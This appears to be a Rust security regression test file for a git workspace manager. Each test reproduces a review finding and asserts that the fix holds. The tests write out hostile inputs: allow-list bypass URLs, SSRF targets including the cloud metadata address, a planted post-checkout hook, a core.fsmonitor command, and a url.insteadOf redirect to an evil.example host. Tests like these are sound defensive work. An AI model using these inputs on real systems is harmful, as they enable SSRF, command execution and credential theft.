@@ -1,0 +1,447 @@
+//! The security review's findings (issue 11), each tried as an attacker
+//! would against real repositories and real servers on loopback. Every
+//! test here failed before its fix; docs/RELIABILITY.md maps item to test.
+
+mod support;
+
+use fixsec_workspace::{ErrorKind, PrepareRequest, WorkspaceManager};
+use std::time::{Duration, Instant};
+use support::{GitDaemon, HttpStub, Upstream, builder, hostile_policy, manager};
+
+/// Item 1: URLs that the allow-list and libgit2 read differently are
+/// refused, and never reach the host libgit2 would have connected to.
+#[test]
+fn allow_list_bypasses_are_refused_before_any_connection() {
+    let up = Upstream::new();
+    let daemon = GitDaemon::start(up.path.parent().unwrap());
+    let base = tempfile::tempdir().unwrap();
+    let m = builder(base.path())
+        .configure(|c| c.allowed_hosts = vec!["allowed.example".into(), ".allowed.example".into()])
+        .build()
+        .unwrap();
+    let port = daemon.port;
+    for bypass in [
+        format!("git://allowed.example?@127.0.0.1:{port}/upstream"),
+        format!("git://allowed.example#@127.0.0.1:{port}/upstream"),
+        format!("git://127.0.0.1%00.allowed.example:{port}/upstream"),
+        format!("ssh://allowed.example?@127.0.0.1:{port}/upstream"),
+    ] {
+        let err = m
+            .prepare(&PrepareRequest::new("acme/bypass", &bypass))
+            .unwrap_err();
+        assert_eq!(err.kind(), ErrorKind::Refused, "{bypass}: {err}");
+    }
+    assert!(m.list().unwrap().is_empty(), "nothing was cloned");
+
+    // The daemon does serve the repository: the refusals above are the
+    // check's, not a broken server's.
+    let open = builder(base.path())
+        .configure(|c| c.allowed_hosts = vec!["127.0.0.1".into()])
+        .build()
+        .unwrap();
+    open.prepare(&PrepareRequest::new("acme/bypass", daemon.url("upstream")))
+        .unwrap();
+}
+
+/// Item 2: another caller's prepare waits for a lease, then answers "in
+/// use" with who holds it and until when; the leaseholder's tree is not
+/// reset, cleaned or re-cloned.
+#[test]
+fn a_prepare_never_touches_a_leased_workspace() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let m = builder(base.path())
+        .configure(|c| c.lease_wait = Duration::from_millis(300))
+        .build()
+        .unwrap();
+    let mut leased = PrepareRequest::new("acme/demo", up.url()).branch("main");
+    leased.lease_seconds = Some(600);
+    leased.holder = Some("scanner-7".into());
+    let first = m.prepare(&leased).unwrap();
+    let lease = first.lease.clone().unwrap();
+    // The leaseholder's work in progress.
+    std::fs::write(first.path.join("fix.patch"), "work in progress").unwrap();
+    std::fs::write(first.path.join("README.md"), "# edited by the fix\n").unwrap();
+    up.commit("upstream.txt", "new upstream work\n", "upstream moves on");
+
+    let other_url = format!("{}/../upstream", up.url());
+    for request in [
+        PrepareRequest::new("acme/demo", up.url()).branch("main"),
+        PrepareRequest::new("acme/demo", &other_url).branch("develop"),
+    ] {
+        let started = Instant::now();
+        let err = m.prepare(&request).unwrap_err();
+        assert_eq!(err.kind(), ErrorKind::InUse, "{err}");
+        let text = err.to_string();
+        assert!(text.contains("scanner-7"), "{text}");
+        assert!(text.contains(&lease.expires_at.to_rfc3339()), "{text}");
+        assert!(
+            started.elapsed() >= Duration::from_millis(300),
+            "it waited first"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(first.path.join("fix.patch")).unwrap(),
+        "work in progress"
+    );
+    assert_eq!(
+        std::fs::read_to_string(first.path.join("README.md")).unwrap(),
+        "# edited by the fix\n"
+    );
+
+    // Released: the next prepare takes over and cleans as usual.
+    m.release_lease(lease.id).unwrap();
+    let again = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()).branch("main"))
+        .unwrap();
+    assert!(again.reused);
+    assert!(!again.path.join("fix.patch").exists());
+    assert_eq!(again.head, up.head_of("main"));
+}
+
+/// Item 3: a remote that redirects elsewhere never receives the caller's
+/// token there; credentials go to the clone URL's host only.
+#[test]
+fn a_redirect_never_carries_the_token_to_another_host() {
+    let secret = "SECRET-redirect-42";
+    // The host the token must never reach: asks for Basic credentials.
+    let elsewhere = HttpStub::start("127.0.0.2", |_| {
+        "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\"\r\n\
+         Content-Length: 0\r\nConnection: close\r\n\r\n"
+            .into()
+    });
+    let target = format!("http://{}", elsewhere.addr);
+    let allowed = HttpStub::start("127.0.0.1", move |head| {
+        let path = head.split_whitespace().nth(1).unwrap_or("/").to_string();
+        format!(
+            "HTTP/1.1 302 Found\r\nLocation: {target}{path}\r\nContent-Length: 0\r\n\
+             Connection: close\r\n\r\n"
+        )
+    });
+    let base = tempfile::tempdir().unwrap();
+    let m = builder(base.path())
+        .configure(|c| c.allowed_hosts = vec!["127.0.0.1".into()])
+        .build()
+        .unwrap();
+    let url = format!("http://x-access-token:{secret}@{}/r.git", allowed.addr);
+    let err = m
+        .prepare(&PrepareRequest::new("acme/redirect", &url))
+        .unwrap_err();
+    assert!(!err.to_string().contains(secret), "{err}");
+    assert!(!allowed.seen().is_empty(), "the allowed host was asked");
+    let leaked: Vec<String> = elsewhere.seen();
+    assert!(leaked.is_empty(), "the redirect was followed: {leaked:?}");
+}
+
+/// Item 4: a cleanup that decided on a listing removes nothing that a
+/// prepare has used since: the host re-reads `workspace.json` under the
+/// lock before it deletes.
+#[test]
+fn cleanup_never_removes_a_workspace_prepared_after_its_listing() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let m = builder(base.path())
+        .policy_file(hostile_policy("slow-cleanup"))
+        .build()
+        .unwrap();
+    let out = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap();
+    support::age_workspace(base.path(), &out.name, 48);
+    std::thread::scope(|scope| {
+        // The policy lists (the workspace is 48 h old), then waits 1.5 s.
+        let cleanup = scope.spawn(|| m.cleanup(Some(24.0)).unwrap());
+        std::thread::sleep(Duration::from_millis(400));
+        m.prepare(&PrepareRequest::new("acme/demo", up.url()))
+            .unwrap();
+        let report = cleanup.join().unwrap();
+        assert_eq!(report.cleaned_workspaces, 0, "{report:?}");
+        assert!(
+            report.skipped[0]
+                .reason
+                .contains("since the policy listed it"),
+            "{report:?}"
+        );
+    });
+    assert!(
+        out.path.join("src/lib.rs").is_file(),
+        "the prepared tree is there"
+    );
+    // Old again and unused: the same policy removes it.
+    support::age_workspace(base.path(), &out.name, 48);
+    assert_eq!(m.cleanup(Some(24.0)).unwrap().cleaned_workspaces, 1);
+}
+
+/// Item 5: a clone over the size limit, or one that would leave the disk
+/// under its free-space floor, is stopped and leaves nothing behind.
+#[test]
+fn storage_limits_stop_a_clone_and_leave_nothing() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let too_small = builder(base.path())
+        .configure(|c| c.max_workspace_bytes = Some(64))
+        .build()
+        .unwrap();
+    let err = too_small
+        .prepare(&PrepareRequest::new("acme/big", up.url()))
+        .unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::InsufficientStorage, "{err}");
+    assert!(
+        err.to_string().contains("WORKSPACE_MAX_WORKSPACE_MB"),
+        "{err}"
+    );
+
+    let no_room = builder(base.path())
+        .configure(|c| c.min_free_bytes = u64::MAX)
+        .build()
+        .unwrap();
+    let err = no_room
+        .prepare(&PrepareRequest::new("acme/big", up.url()))
+        .unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::InsufficientStorage, "{err}");
+    assert!(err.to_string().contains("WORKSPACE_MIN_FREE_MB"), "{err}");
+
+    let name = no_room.workspace_name("acme/big").unwrap();
+    assert!(!base.path().join(&name).join("repo").exists());
+    assert_eq!(
+        std::fs::read_dir(base.path().join(".staging"))
+            .unwrap()
+            .count(),
+        0
+    );
+    assert!(
+        no_room
+            .list()
+            .unwrap()
+            .iter()
+            .all(|w| w.name != name || !w.has_metadata)
+    );
+}
+
+/// Item 6: with no allow-list, loopback, link-local and private
+/// addresses are refused by default; git's network detail stays in the
+/// log.
+#[test]
+fn private_addresses_are_refused_by_default_and_errors_say_little() {
+    let up = Upstream::new();
+    let daemon = GitDaemon::start(up.path.parent().unwrap());
+    let base = tempfile::tempdir().unwrap();
+    let default = WorkspaceManager::builder()
+        .base_path(base.path())
+        .build()
+        .unwrap();
+    for url in [
+        daemon.url("upstream"),
+        "http://169.254.169.254/latest/meta-data/r.git".into(),
+        "https://[::1]/r.git".into(),
+        "ssh://git@10.0.0.1/r.git".into(),
+        "git://localhost/r.git".into(),
+    ] {
+        let err = default
+            .prepare(&PrepareRequest::new("acme/ssrf", &url))
+            .unwrap_err();
+        assert_eq!(err.kind(), ErrorKind::Refused, "{url}: {err}");
+        assert!(err.to_string().contains("WORKSPACE_ALLOW_PRIVATE_NETWORKS"));
+    }
+    // Allowed (tests, on-premises): a closed port says nothing a port
+    // scanner could use.
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = closed.local_addr().unwrap().port();
+    drop(closed);
+    let m = manager(base.path());
+    let err = m
+        .prepare(&PrepareRequest::new(
+            "acme/scan",
+            format!("http://127.0.0.1:{port}/r.git"),
+        ))
+        .unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::Git, "{err}");
+    let text = err.to_string().to_lowercase();
+    assert!(text.contains("service log"), "{text}");
+    for detail in ["connect", "refused", "status code", "os error"] {
+        assert!(!text.contains(detail), "{detail:?} in {text}");
+    }
+}
+
+/// Item 9: a link named like a workspace, or left in `.trash/` or
+/// `.staging/`, is removed as a link; its target is never emptied.
+#[cfg(unix)]
+#[test]
+fn deletion_never_follows_a_link_at_the_root() {
+    let outside = tempfile::tempdir().unwrap();
+    let precious = outside.path().join("precious");
+    std::fs::create_dir_all(precious.join("deep")).unwrap();
+    std::fs::write(precious.join("deep/data"), "keep me").unwrap();
+    let base = tempfile::tempdir().unwrap();
+    let m = manager(base.path());
+    for place in [".trash/evil.1.2", ".staging/evil.1.2"] {
+        std::os::unix::fs::symlink(&precious, base.path().join(place)).unwrap();
+    }
+    let report = m.cleanup(Some(0.0)).unwrap();
+    assert!(report.failed.is_empty(), "{report:?}");
+    for place in [".trash/evil.1.2", ".staging/evil.1.2"] {
+        assert!(
+            std::fs::symlink_metadata(base.path().join(place)).is_err(),
+            "{place} is gone"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(precious.join("deep/data")).unwrap(),
+        "keep me"
+    );
+}
+
+/// Item 10: staging folders of other workspaces survive a prepare whose
+/// name is their prefix; lock files survive removal.
+#[test]
+fn a_prepare_clears_only_its_own_staging_and_removal_keeps_lock_files() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let m = manager(base.path());
+    let name = m.workspace_name("acme/app").unwrap();
+    // The in-flight clone of a workspace named `<name>.web`.
+    let theirs = base
+        .path()
+        .join(".staging")
+        .join(format!("{name}.web.4242.99"));
+    std::fs::create_dir_all(theirs.join("objects")).unwrap();
+    std::fs::write(theirs.join("objects/pack"), "in flight").unwrap();
+    let ours = base.path().join(".staging").join(format!("{name}.4242.98"));
+    std::fs::create_dir_all(&ours).unwrap();
+    m.prepare(&PrepareRequest::new("acme/app", up.url()))
+        .unwrap();
+    assert!(
+        theirs.join("objects/pack").is_file(),
+        "another workspace's staging"
+    );
+    assert!(!ours.exists(), "its own crashed staging is cleared");
+
+    let lock = base.path().join(".locks").join(format!("{name}.lock"));
+    assert!(lock.is_file());
+    assert!(m.remove(&name).unwrap().removed);
+    assert!(lock.is_file(), "lock files are never deleted");
+}
+
+/// Item 10: hooks and config a previous user left in a reused clone are
+/// gone after the next prepare (they would run commands or redirect
+/// fetches for whoever works there next).
+#[test]
+fn reuse_resets_hooks_and_config_left_by_a_caller() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let m = manager(base.path());
+    let out = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap();
+    let git_dir = out.path.join(".git");
+    std::fs::write(
+        git_dir.join("hooks/post-checkout"),
+        "#!/bin/sh\ntouch /tmp/pwned\n",
+    )
+    .unwrap();
+    std::fs::create_dir_all(git_dir.join("hooks/lib")).unwrap();
+    {
+        let repo = git2::Repository::open(&out.path).unwrap();
+        let mut config = repo
+            .config()
+            .unwrap()
+            .open_level(git2::ConfigLevel::Local)
+            .unwrap();
+        config.set_str("core.hooksPath", "/tmp/evil-hooks").unwrap();
+        config
+            .set_str("core.fsmonitor", "touch /tmp/pwned")
+            .unwrap();
+        config
+            .set_str("url.http://evil.example/.insteadOf", "https://github.com/")
+            .unwrap();
+        config.set_str("include.path", "/tmp/evil.config").unwrap();
+        config.set_str("user.name", "left behind").unwrap();
+    }
+    let again = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap();
+    assert!(again.reused);
+    let hooks: Vec<String> = std::fs::read_dir(git_dir.join("hooks"))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .filter(|n| !n.ends_with(".sample"))
+        .collect();
+    assert!(hooks.is_empty(), "{hooks:?}");
+    let text = std::fs::read_to_string(git_dir.join("config")).unwrap();
+    for left in [
+        "hooksPath",
+        "fsmonitor",
+        "insteadOf",
+        "include",
+        "left behind",
+    ] {
+        assert!(!text.contains(left), "{left} in:\n{text}");
+    }
+    for kept in ["[remote \"origin\"]", "url = ", "longpaths"] {
+        assert!(text.contains(kept), "{kept} missing in:\n{text}");
+    }
+}
+
+/// Item 10: a policy may use each import only from the export that needs
+/// it: `assess-health`, reached without a token, cannot remove.
+#[test]
+fn assess_health_cannot_remove_workspaces() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let m = builder(base.path())
+        .policy_file(hostile_policy("health-remove"))
+        .configure(|c| c.size_warning_mb = 0)
+        .build()
+        .unwrap();
+    let out = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap();
+    let err = m.health().unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::Policy, "{err}");
+    assert!(
+        err.to_string().contains("assess-health, which may not"),
+        "{err}"
+    );
+    assert!(
+        out.path.join("src/lib.rs").is_file(),
+        "the workspace survives"
+    );
+    assert_eq!(m.list().unwrap().len(), 1);
+}
+
+/// Item 5: waiting for another prepare of the same workspace is bounded.
+#[test]
+fn waiting_for_a_busy_workspace_ends_busy() {
+    let up = Upstream::new();
+    let base = tempfile::tempdir().unwrap();
+    let m = builder(base.path())
+        .configure(|c| c.lock_wait = Duration::from_millis(200))
+        .build()
+        .unwrap();
+    let out = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap();
+    // Another process holds the workspace's lock (a CLI mid-prepare).
+    let holder = std::fs::OpenOptions::new()
+        .write(true)
+        .open(
+            base.path()
+                .join(".locks")
+                .join(format!("{}.lock", out.name)),
+        )
+        .unwrap();
+    holder.lock().unwrap();
+    let started = Instant::now();
+    let err = m
+        .prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap_err();
+    assert_eq!(err.kind(), ErrorKind::Busy, "{err}");
+    assert!(
+        err.to_string().contains("WORKSPACE_LOCK_WAIT_SECONDS"),
+        "{err}"
+    );
+    assert!(started.elapsed() < Duration::from_secs(5));
+    drop(holder);
+    m.prepare(&PrepareRequest::new("acme/demo", up.url()))
+        .unwrap();
+}
